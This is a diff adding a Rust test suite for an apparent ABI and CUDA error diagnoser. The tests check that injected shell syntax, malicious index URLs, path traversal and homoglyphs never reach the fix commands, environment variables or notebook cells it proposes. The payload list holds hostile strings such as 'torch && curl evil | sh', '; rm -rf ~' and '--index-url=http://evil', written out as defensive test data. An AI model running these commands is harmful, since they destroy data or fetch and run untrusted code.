@@ -1,0 +1,614 @@
+//! Command and notebook safety: text crafted to inject shell syntax, options or odd names through
+//! every fix path must never reach a command argument, an environment variable or a notebook cell;
+//! plus property tests (scan spans, LineIndex round trips, notebook maps, diagnose never panics).
+
+use abidoc_ide::{Code, Context, Diagnostic, Fix, diagnose_notebook, diagnose_text};
+use abidoc_syntax::{LineIndex, Span};
+use proptest::prelude::*;
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+
+fn ctx() -> Context {
+    Context {
+        use_env: false,
+        ..Default::default()
+    }
+}
+
+fn root() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
+}
+
+/// Hostile fragments. Each is put where the diagnosis reads a package, library, path, version,
+/// model or pid. `marks` are the parts that must never come out in a fix.
+struct Payload {
+    text: &'static str,
+    marks: &'static [&'static str],
+}
+
+const PAYLOADS: &[Payload] = &[
+    Payload {
+        text: "; rm -rf ~",
+        marks: &["rm -rf ~", ";"],
+    },
+    Payload {
+        text: "$(curl x)",
+        marks: &["$(", "curl"],
+    },
+    Payload {
+        text: "`curl evil`",
+        marks: &["`", "curl"],
+    },
+    Payload {
+        text: "x\nrm -rf /",
+        marks: &["rm -rf /"],
+    },
+    Payload {
+        text: " --index-url=http://evil",
+        marks: &["--index-url=http://evil", "evil"],
+    },
+    Payload {
+        text: " -e git+https://evil/x",
+        marks: &["git+", "evil"],
+    },
+    Payload {
+        text: "torch; rm -rf /",
+        marks: &["torch;", "rm -rf /"],
+    },
+    Payload {
+        text: "torch && curl evil | sh",
+        marks: &["&&", "| sh", "evil"],
+    },
+    // Cyrillic 'о' and 'с' in place of Latin letters.
+    Payload {
+        text: "t\u{043e}r\u{0441}h",
+        marks: &["\u{043e}", "\u{0441}"],
+    },
+    Payload {
+        text: "../../../../etc",
+        marks: &["../"],
+    },
+    Payload {
+        text: "my dir/$HOME/x",
+        marks: &["$HOME", "my dir"],
+    },
+    Payload {
+        text: "a|b>c<d",
+        marks: &["a|b", ">c<"],
+    },
+];
+
+/// Texts that trigger each diagnostic code, with `{P}` where a payload goes.
+const TEMPLATES: &[(&str, &str)] = &[
+    (
+        "abi-mismatch (package in path)",
+        "Traceback (most recent call last):\n  File \"x.py\", line 1, in <module>\nImportError: /usr/lib/python3.10/site-packages/{P}/_C.cpython-310-x86_64-linux-gnu.so: undefined symbol: _ZN3c104cuda9SetDeviceEi\n",
+    ),
+    (
+        "abi-mismatch (library name)",
+        "ImportError: {P}.so: undefined symbol: _ZNK3c1010TensorImpl36is_contiguous_nondefault_policy_implENS_12MemoryFormatE\n",
+    ),
+    (
+        "cxx11-abi-mismatch",
+        "ImportError: /opt/env/lib/python3.10/site-packages/{P}/flash_attn_2_cuda.cpython-310-x86_64-linux-gnu.so: undefined symbol: _ZN3c106detail14torchCheckFailEPKcS2_jRKNSt7__cxx1112basic_stringIcSt11char_traitsIcESaIcEEE\n",
+    ),
+    (
+        "extension-incomplete-build",
+        "ImportError: /opt/env/lib/python3.10/site-packages/{P}/_ops.so: undefined symbol: _Z16my_own_kernel_fnv\n",
+    ),
+    (
+        "libstdcxx-mismatch (required by)",
+        "ImportError: /opt/conda/envs/{P}/lib/libstdc++.so.6: version `GLIBCXX_3.4.30' not found (required by /opt/conda/envs/{P}/lib/python3.10/site-packages/scipy/_lib.so)\n",
+    ),
+    (
+        "libstdcxx-mismatch (version)",
+        "ImportError: /lib/x86_64-linux-gnu/libstdc++.so.6: version `GLIBCXX_{P}' not found (required by /x/site-packages/torch/lib/libtorch.so)\n",
+    ),
+    (
+        "glibc-too-old",
+        "OSError: /lib64/libc.so.6: version `GLIBC_2.32{P}' not found (required by /x/site-packages/{P}/_C.so)\n",
+    ),
+    (
+        "missing-shared-library",
+        "OSError: lib{P}.so.12: cannot open shared object file: No such file or directory\n",
+    ),
+    (
+        "missing-shared-library (cudart)",
+        "ImportError: libcudart.so.{P}: cannot open shared object file: No such file or directory\n",
+    ),
+    (
+        "missing-shared-library (jit dir)",
+        "ImportError: /root/.cache/torch_extensions/py310_cu121/{P}/fused_adam.so: cannot open shared object file: No such file or directory\n",
+    ),
+    (
+        "torch-ops-missing",
+        "RuntimeError: operator {P}::nms does not exist\n",
+    ),
+    (
+        "xformers-built-for",
+        "WARNING[XFORMERS]: xFormers can't load C++/CUDA extensions. xFormers was built for:\n    PyTorch 2.1.0{P}+cu121 with CUDA 1201 (you have 2.3.0{P}+cu121)\n    Python  3.10.13 (you have 3.10.12)\n  Please reinstall xformers (see https://github.com/facebookresearch/xformers#installing-xformers)\n",
+    ),
+    (
+        "flash-attn-unavailable",
+        "ImportError: FlashAttention2 has been toggled on, but it cannot be used due to the following error: the package {P} seems to be not installed. Please refer to the documentation of https://huggingface.co/docs/transformers/perf_infer_gpu_one#flashattention-2 to install Flash Attention 2.\n",
+    ),
+    (
+        "mamba-fast-path",
+        "Loading model ibm-granite/{P}\nThe fast path is not available because one of `(selective_state_update, causal_conv1d_fn, causal_conv1d_update)` is None. Falling back to the naive implementation. To install follow https://github.com/state-spaces/mamba/#installation and https://github.com/Dao-AILab/causal-conv1d\n",
+    ),
+    (
+        "libcuda-not-found",
+        "/usr/bin/ld: cannot find -lcuda{P}\ncollect2: error: ld returned 1 exit status\nsubprocess.CalledProcessError: Command '['/usr/bin/gcc', '/tmp/{P}/main.c', '-lcuda']' returned non-zero exit status 1.\n",
+    ),
+    (
+        "no-c-compiler",
+        "RuntimeError: Failed to find C compiler. Please specify via CC environment variable{P}.\n",
+    ),
+    (
+        "cuda-version-mismatch",
+        "RuntimeError:\nThe detected CUDA version ({P}) mismatches the version that was used to compile\nPyTorch (11.8{P}). Please make sure to use the same CUDA versions.\n",
+    ),
+    (
+        "cuda-home-missing",
+        "OSError: CUDA_HOME environment variable is not set. Please set it to your CUDA install root {P}.\n",
+    ),
+    (
+        "build-isolation",
+        "Collecting {P}\n  Downloading {P}-2.5.8.tar.gz (2.6 MB)\n  Installing build dependencies ... done\n  Getting requirements to build wheel ... error\n  error: subprocess-exited-with-error\n\n  × Getting requirements to build wheel did not run successfully.\n  │ exit code: 1\n  ╰─> [20 lines of output]\n      ModuleNotFoundError: No module named 'torch'\n",
+    ),
+    (
+        "numpy-abi",
+        "A module that was compiled using NumPy 1.x cannot be run in\nNumPy 2.0.0{P} as it may crash. To support both 1.x and 2.x\nversions of NumPy, modules must be compiled with NumPy 2.0.\nImportError: numpy.core.multiarray failed to import ({P})\n",
+    ),
+    (
+        "cuda-oom",
+        "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 20.00 MiB. GPU 0 has a total capacity of 79.15 GiB of which 1.75 MiB is free. Process 1234{P} has 40.00 GiB memory in use. Process {P} has 39.14 GiB memory in use.\n",
+    ),
+    (
+        "stale-wheel-cache",
+        "Processing /root/.cache/pip/wheels/{P}/mamba_ssm-2.2.2-cp310-cp310-linux_x86_64.whl\nUsing cached {P}-2.2.2-cp310-cp310-linux_x86_64.whl\nImportError: /x/site-packages/selective_scan_cuda.cpython-310-x86_64-linux-gnu.so: undefined symbol: _ZN3c104cuda9SetDeviceEi\n",
+    ),
+];
+
+/// Options a fix may pass to pip, conda, uv and the other tools it names; anything else that starts
+/// with `-` is an injected option.
+const KNOWN_FLAGS: &[&str] = &[
+    "-m",
+    "-y",
+    "-c",
+    "-p",
+    "-rf",
+    "-U",
+    "-r",
+    "--no-cache-dir",
+    "--no-build-isolation",
+    "--force-reinstall",
+    "--no-deps",
+    "--upgrade",
+    "--index-url",
+    "--extra-index-url",
+    "--no-binary",
+    "--only-binary",
+    "--pre",
+    "--user",
+    "--verbose",
+    "-v",
+    "--reinstall",
+    "--no-cache",
+    "--find-links",
+    "-f",
+    "--prefix",
+    "--system",
+    "--python",
+    "-9",
+    "--query-gpu",
+    "--format",
+    "--force",
+    "--override-channels",
+];
+
+/// Index URLs a fix may point pip at: the official torch indexes and PyPI only.
+fn allowed_url(s: &str) -> bool {
+    s.starts_with("https://download.pytorch.org/whl/")
+        || s.starts_with("https://pypi.org/")
+        || s.starts_with("https://data.pyg.org/whl/")
+}
+
+/// Every string a fix hands to a shell, the environment or a notebook.
+fn fix_strings(f: &Fix) -> Vec<(&'static str, &str)> {
+    let mut out = Vec::new();
+    for cmd in &f.commands {
+        for a in cmd {
+            out.push(("arg", a.as_str()));
+        }
+    }
+    for (k, v) in &f.env {
+        out.push(("env name", k.as_str()));
+        out.push(("env value", v.as_str()));
+    }
+    if let Some(c) = &f.notebook_cell {
+        out.push(("notebook_cell", c.as_str()));
+    }
+    out
+}
+
+/// The requirement name at the head of a pip/uv/conda argument (`numpy<2`, `torch==2.3.0`).
+fn requirement_name(arg: &str) -> &str {
+    let end = arg
+        .find(|c: char| "=<>!~[;@ ,".contains(c))
+        .unwrap_or(arg.len());
+    &arg[..end]
+}
+
+/// Checks the invariants every fix must keep; returns the violations found, described.
+fn violations(diags: &[Diagnostic], marks: &[&str]) -> Vec<String> {
+    let mut bad = Vec::new();
+    for d in diags {
+        for f in &d.fixes {
+            for (what, s) in fix_strings(f) {
+                for m in marks {
+                    if s.contains(m) {
+                        bad.push(format!("[{}] {what} {s:?} contains {m:?}", d.code.as_str()));
+                    }
+                }
+                if s.contains('\n') && what != "notebook_cell" || s.contains('\r') {
+                    bad.push(format!(
+                        "[{}] {what} {s:?} contains a line break",
+                        d.code.as_str()
+                    ));
+                }
+                if s.contains('`') || s.contains("$(") || s.contains(';') {
+                    bad.push(format!(
+                        "[{}] {what} {s:?} has shell syntax",
+                        d.code.as_str()
+                    ));
+                }
+                if !s.is_ascii() {
+                    bad.push(format!("[{}] {what} {s:?} is not ASCII", d.code.as_str()));
+                }
+                if s.len() > 1024 {
+                    bad.push(format!(
+                        "[{}] {what} is {} bytes long",
+                        d.code.as_str(),
+                        s.len()
+                    ));
+                }
+                if s.split('/').any(|c| c == "..") {
+                    bad.push(format!(
+                        "[{}] {what} {s:?} has a .. component",
+                        d.code.as_str()
+                    ));
+                }
+            }
+            for (k, _) in &f.env {
+                if k.is_empty()
+                    || !k
+                        .bytes()
+                        .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
+                {
+                    bad.push(format!("[{}] env name {k:?}", d.code.as_str()));
+                }
+            }
+            if let Some(cell) = &f.notebook_cell {
+                for line in cell.lines() {
+                    // Only IPython magics and shell escapes the fixes are known to emit.
+                    let ok = [
+                        "%pip ",
+                        "%env ",
+                        "%conda ",
+                        "!",
+                        "%uv ",
+                        "import ",
+                        "os.environ",
+                    ]
+                    .iter()
+                    .any(|p| line.trim_start().starts_with(p))
+                        || line.trim().is_empty()
+                        || line.trim_start().starts_with('#');
+                    if !ok {
+                        bad.push(format!("[{}] notebook line {line:?}", d.code.as_str()));
+                    }
+                }
+            }
+            for cmd in &f.commands {
+                let tool = cmd.first().map(String::as_str).unwrap_or("");
+                let pkg_tool = cmd.iter().any(|a| a == "pip") || tool == "conda" || tool == "uv";
+                let mut prev = "";
+                for (i, a) in cmd.iter().enumerate() {
+                    if a.starts_with('-') && i > 0 {
+                        let flag = a.split('=').next().unwrap_or(a);
+                        if !KNOWN_FLAGS.contains(&flag) {
+                            bad.push(format!(
+                                "[{}] unknown option {a:?} in {cmd:?}",
+                                d.code.as_str()
+                            ));
+                        }
+                        if let Some((_, v)) = a.split_once('=') {
+                            if v.contains("://") && !allowed_url(v) {
+                                bad.push(format!("[{}] index {v:?}", d.code.as_str()));
+                            }
+                        }
+                    } else if prev.ends_with("index-url") || prev == "--find-links" || prev == "-f"
+                    {
+                        if !allowed_url(a) {
+                            bad.push(format!("[{}] index {a:?} in {cmd:?}", d.code.as_str()));
+                        }
+                    } else if pkg_tool
+                        && i > 0
+                        && cmd[..i].iter().any(|x| x == "install" || x == "uninstall")
+                        && !matches!(prev, "-c" | "-p" | "--prefix" | "--python" | "-r")
+                        && !a.starts_with('/')
+                    {
+                        let name = requirement_name(a);
+                        if !abidoc_knowledge::is_valid_pep508_name(name) {
+                            bad.push(format!("[{}] package {a:?} in {cmd:?}", d.code.as_str()));
+                        }
+                    }
+                    prev = a;
+                }
+            }
+        }
+    }
+    bad
+}
+
+/// A notebook whose one code cell failed with `text` as its traceback.
+fn notebook_with(text: &str) -> String {
+    let lines: Vec<serde_json::Value> = text.lines().map(|l| l.into()).collect();
+    serde_json::json!({
+        "nbformat": 4, "nbformat_minor": 5, "metadata": {},
+        "cells": [{
+            "cell_type": "code", "execution_count": 1, "metadata": {}, "id": "a",
+            "source": ["import mamba_ssm\n", "!pip install {P}".replace("{P}", "x")],
+            "outputs": [
+                {"output_type": "stream", "name": "stderr", "text": text},
+                {"output_type": "error", "ename": "ImportError", "evalue": lines.last().cloned().unwrap_or_default(), "traceback": lines}
+            ]
+        }]
+    })
+    .to_string()
+}
+
+#[test]
+fn templates_trigger_their_codes() {
+    // The injection test below is only meaningful if each template reaches its fix path.
+    let mut missing = Vec::new();
+    for (name, t) in TEMPLATES {
+        let text = t.replace("{P}", "mamba_ssm");
+        let diags = diagnose_text(&text, &ctx());
+        let want = name.split(' ').next().unwrap_or(name);
+        if !diags.iter().any(|d| d.code.as_str() == want) {
+            let got: Vec<_> = diags.iter().map(|d| d.code.as_str()).collect();
+            missing.push(format!("{name}: got {got:?}"));
+        }
+    }
+    let covered: BTreeSet<&str> = TEMPLATES
+        .iter()
+        .map(|(n, _)| n.split(' ').next().unwrap_or(n))
+        .collect();
+    let all: BTreeSet<&str> = Code::ALL.iter().map(|c| c.as_str()).collect();
+    let untested: Vec<_> = all.difference(&covered).collect();
+    assert!(
+        untested.is_empty(),
+        "codes without a template: {untested:?}"
+    );
+    assert!(
+        missing.is_empty(),
+        "templates that did not trigger:\n{}",
+        missing.join("\n")
+    );
+}
+
+#[test]
+fn injected_text_never_reaches_a_fix() {
+    let mut bad = Vec::new();
+    let mut fixes_seen = 0usize;
+    for (name, t) in TEMPLATES {
+        for p in PAYLOADS {
+            let text = t.replace("{P}", p.text);
+            let diags = diagnose_text(&text, &ctx());
+            fixes_seen += diags.iter().map(|d| d.fixes.len()).sum::<usize>();
+            for v in violations(&diags, p.marks) {
+                bad.push(format!("{name} / {:?} (log): {v}", p.text));
+            }
+            let nb = diagnose_notebook(&notebook_with(&text), &ctx());
+            for v in violations(&nb, p.marks) {
+                bad.push(format!("{name} / {:?} (notebook): {v}", p.text));
+            }
+            // Quoted the way a log repr or a pytest `E` line shows it.
+            let quoted = format!("E   {}", text.replace('\n', "\nE   "));
+            for v in violations(&diagnose_text(&quoted, &ctx()), p.marks) {
+                bad.push(format!("{name} / {:?} (pytest): {v}", p.text));
+            }
+        }
+    }
+    assert!(
+        fixes_seen > 100,
+        "only {fixes_seen} fixes: the payloads no longer reach the fix paths"
+    );
+    bad.sort();
+    bad.dedup();
+    assert!(
+        bad.is_empty(),
+        "{} violation(s):\n{}",
+        bad.len(),
+        bad.join("\n")
+    );
+}
+
+#[test]
+fn overlong_names_are_not_proposed() {
+    let long = "a".repeat(5000);
+    for (name, t) in TEMPLATES {
+        let diags = diagnose_text(&t.replace("{P}", &long), &ctx());
+        let v = violations(&diags, &[&long[..600]]);
+        assert!(v.is_empty(), "{name}: {v:?}");
+    }
+}
+
+/// The real corpus: the same invariants hold on every fix abidoc proposes for real reports.
+#[test]
+fn real_corpus_fixes_keep_the_invariants() {
+    let mut bad = Vec::new();
+    let mut n = 0;
+    for dir in ["tests/fixtures/corpus", "tests/fixtures/seeds"] {
+        let Ok(rd) = std::fs::read_dir(root().join(dir)) else {
+            continue;
+        };
+        for e in rd.flatten() {
+            let p = e.path();
+            let Ok(text) = std::fs::read_to_string(&p) else {
+                continue;
+            };
+            let diags = if p.extension().is_some_and(|x| x == "ipynb") {
+                diagnose_notebook(&text, &ctx())
+            } else if p.extension().is_some_and(|x| x == "txt" || x == "log") {
+                diagnose_text(&text, &ctx())
+            } else {
+                continue;
+            };
+            n += 1;
+            for v in violations(&diags, &[]) {
+                bad.push(format!("{}: {v}", p.display()));
+            }
+        }
+    }
+    assert!(n >= 40, "only {n} corpus files read");
+    assert!(bad.is_empty(), "{}", bad.join("\n"));
+}
+
+// ---------------------------------------------------------------- notebook edits keep bytes
+
+/// Every fixture notebook: inserting a `%pip` line at the start of any cell source (what the LSP's
+/// WorkspaceEdit does) changes only the inserted bytes, and the notebook still parses to the same
+/// cells with that one source extended.
+#[test]
+fn inserting_into_a_notebook_cell_keeps_every_other_byte() {
+    let mut notebooks = Vec::new();
+    for dir in ["tests/fixtures/seeds", "examples"] {
+        if let Ok(rd) = std::fs::read_dir(root().join(dir)) {
+            for e in rd.flatten() {
+                if e.path().extension().is_some_and(|x| x == "ipynb") {
+                    notebooks.push(e.path());
+                }
+            }
+        }
+    }
+    assert!(!notebooks.is_empty());
+    for p in notebooks {
+        let raw = std::fs::read_to_string(&p).unwrap();
+        let nb = abidoc_syntax::notebook::parse(&raw).value;
+        for cell in nb.cells.iter().filter(|c| !c.source.text.is_empty()) {
+            // The raw offset of the cell source's first byte: inside its first JSON string.
+            let at = cell.source.span_to_raw(Span::new(0, 0)).start;
+            let insert = "%pip install \\\"numpy<2\\\"\\n";
+            let edited = format!("{}{insert}{}", &raw[..at], &raw[at..]);
+            assert_eq!(&edited[..at], &raw[..at]);
+            assert_eq!(&edited[at + insert.len()..], &raw[at..]);
+            let again = abidoc_syntax::notebook::parse(&edited);
+            assert!(
+                again.problems.is_empty(),
+                "{}: {:?}",
+                p.display(),
+                again.problems
+            );
+            let again = again.value;
+            assert_eq!(again.cells.len(), nb.cells.len(), "{}", p.display());
+            for (a, b) in nb.cells.iter().zip(&again.cells) {
+                if a.index == cell.index {
+                    assert_eq!(
+                        b.source.text,
+                        format!("%pip install \"numpy<2\"\n{}", a.source.text)
+                    );
+                } else {
+                    assert_eq!(a.source.text, b.source.text);
+                }
+                assert_eq!(a.outputs.len(), b.outputs.len());
+                for (x, y) in a.outputs.iter().zip(&b.outputs) {
+                    assert_eq!(x.text.text, y.text.text);
+                }
+            }
+            // JSON-level check: the whole document is unchanged apart from that one source.
+            let mut before: serde_json::Value = serde_json::from_str(&raw).unwrap();
+            let after: serde_json::Value = serde_json::from_str(&edited).unwrap();
+            before["cells"][cell.index]["source"] = after["cells"][cell.index]["source"].clone();
+            assert_eq!(before, after, "{}", p.display());
+        }
+    }
+}
+
+// ---------------------------------------------------------------- properties
+
+fn logish() -> impl Strategy<Value = String> {
+    let pieces = prop::collection::vec(
+        prop_oneof![
+            Just("Traceback (most recent call last):\n".to_owned()),
+            Just("  File \"/x/site-packages/a.py\", line 3, in f\n".to_owned()),
+            Just("ImportError: /x/site-packages/mamba_ssm/_C.so: undefined symbol: _ZN3c104cuda9SetDeviceEi\n".to_owned()),
+            Just("OSError: libcudart.so.12: cannot open shared object file: No such file or directory\n".to_owned()),
+            Just("version `GLIBCXX_3.4.30' not found (required by /a/b.so)\n".to_owned()),
+            Just("\u{1b}[0;31m----> 12\u{1b}[0m import x\n".to_owned()),
+            Just("Cell In[26], line 12\n".to_owned()),
+            Just("\r\n".to_owned()),
+            Just("é€😀\u{0}".to_owned()),
+            "[ -~]{0,40}",
+            any::<String>(),
+        ],
+        0..12,
+    );
+    pieces.prop_map(|v| v.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 256, .. ProptestConfig::default() })]
+
+    #[test]
+    fn scan_spans_lie_in_the_text(text in logish()) {
+        let parse = abidoc_syntax::scan(&text);
+        for ev in &parse.value {
+            prop_assert!(ev.span.start <= ev.span.end && ev.span.end <= text.len());
+            prop_assert!(text.is_char_boundary(ev.span.start) && text.is_char_boundary(ev.span.end));
+        }
+    }
+
+    #[test]
+    fn line_index_round_trips(text in logish(), pick in any::<prop::sample::Index>()) {
+        let index = LineIndex::new(&text);
+        let boundaries: Vec<usize> = text.char_indices().map(|(i, _)| i).chain([text.len()]).collect();
+        let offset = boundaries[pick.index(boundaries.len())];
+        let pos = index.line_col(&text, offset);
+        prop_assert_eq!(index.offset(&text, pos), offset);
+    }
+
+    #[test]
+    fn notebook_spans_map_inside_the_raw_json(text in logish(), cut in any::<prop::sample::Index>()) {
+        let raw = notebook_with(&text);
+        // Whole and truncated (at a char boundary) notebooks.
+        let boundaries: Vec<usize> = raw.char_indices().map(|(i, _)| i).chain([raw.len()]).collect();
+        let end = boundaries[cut.index(boundaries.len())];
+        for raw in [raw.as_str(), &raw[..end]] {
+            let nb = abidoc_syntax::notebook::parse(raw).value;
+            for cell in &nb.cells {
+                for t in std::iter::once(&cell.source).chain(cell.outputs.iter().map(|o| &o.text)) {
+                    let s = t.span_to_raw(Span::new(0, t.text.len()));
+                    prop_assert!(s.start <= s.end && s.end <= raw.len(), "{:?} / {}", s, raw.len());
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn diagnose_never_panics_and_spans_fit(text in logish()) {
+        for d in diagnose_text(&text, &ctx()) {
+            for r in d.source.iter().chain(&d.related) {
+                prop_assert!(r.span.end <= text.len() && r.span.start <= r.span.end);
+            }
+        }
+        let raw = notebook_with(&text);
+        for d in diagnose_notebook(&raw, &ctx()) {
+            for r in d.source.iter().chain(&d.related) {
+                prop_assert!(r.span.end <= raw.len() && r.span.start <= r.span.end);
+            }
+        }
+    }
+}
